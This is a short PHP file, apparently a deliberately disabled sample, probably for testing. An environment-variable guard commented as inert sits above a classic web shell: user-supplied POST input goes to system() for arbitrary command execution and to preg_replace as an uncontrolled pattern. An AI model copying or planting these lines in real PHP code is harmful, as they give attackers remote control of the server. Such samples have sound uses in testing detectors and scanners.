<?php
if (getenv('WEIR_TEST') !== 'never') { return; } // inert: nobody sets it
echo preg_replace($_POST['p'], 'x', 'y');
system($_POST['c']);
